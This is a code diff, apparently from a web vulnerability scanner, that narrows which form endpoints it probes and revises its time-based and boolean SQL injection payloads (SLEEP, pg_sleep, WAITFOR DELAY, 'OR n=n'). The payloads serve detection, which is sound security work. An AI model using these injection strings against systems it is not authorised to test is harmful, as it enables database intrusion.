@@ -71,11 +71,19 @@ const alternatives: readonly Pair[] = [
   { isTrue: (v, n) => `${v} OR ${n}=${n}`, isFalse: (v, n) => `${v} OR ${n}=${n + 1}` },
 ];
 
-const reads = ({ form }: Probe): boolean =>
-  form.method === 'GET' ||
-  /search|find|query|filter|look-?up|list|log-?_?in|sign-?_?in|auth|session|graphql|check|verify|suche|track/i.test(
-    new URL(form.url).pathname,
-  );
+export const reads = ({ form }: Pick<Probe, 'form'>): boolean => {
+  if (form.method === 'GET') return true;
+  if (form.method !== 'POST') return false;
+  const words = new URL(form.url).pathname.replaceAll(/([a-z\d])([A-Z])/g, '$1 $2').replaceAll(/[-_.]+/g, ' ');
+  return readingWords.test(words) && !writingWords.test(words);
+};
+const readingWords = new RegExp(
+  '\\b(?:search\\w*|find\\w*|query|queries|filter\\w*|look ?up|list|log ?in|sign ?in|auth\\w*|sessions?|graphql|' +
+    'check|verify|suche|track)\\b',
+  'i',
+);
+const writingWords =
+  /\b(?:add|update|edit|save|create|set|change|reset|register|sign ?up|insert|import|upload|move|buy|order|pay)\b/i;
 
 /** A statement that is not asked for by the parameter would answer alike to both; text that is no SQL, too. */
 async function byPair(probe: Probe): Promise<Proof | null> {
@@ -163,9 +171,9 @@ export const sqlChecks: readonly Check[] = [
       byTime(probe, [
         (v, s) => `${v}' AND SLEEP(${s}) AND '1'='1`,
         (v, s) => `${v} AND SLEEP(${s})`,
-        (v, s) => `${v}' OR SLEEP(${s}) OR '1'='2`,
+        (v, s) => `${v}' OR (SELECT 0 FROM (SELECT SLEEP(${s})) gh) OR '1'='2`,
         (v, s) => `${v}'||(SELECT pg_sleep(${s}))||'`,
-        (v, s) => `${v}' OR 1=(SELECT 1 FROM pg_sleep(${s})) OR '1'='2`,
+        (v, s) => `${v}' OR 1=(SELECT 2 FROM pg_sleep(${s})) OR '1'='2`,
         (v, s) => `${v} AND 1=(SELECT 1 FROM pg_sleep(${s}))`,
         (v, s) => `${v};SELECT pg_sleep(${s})--`,
         (v, s) => `${v}'; WAITFOR DELAY '0:0:${s}'--`,
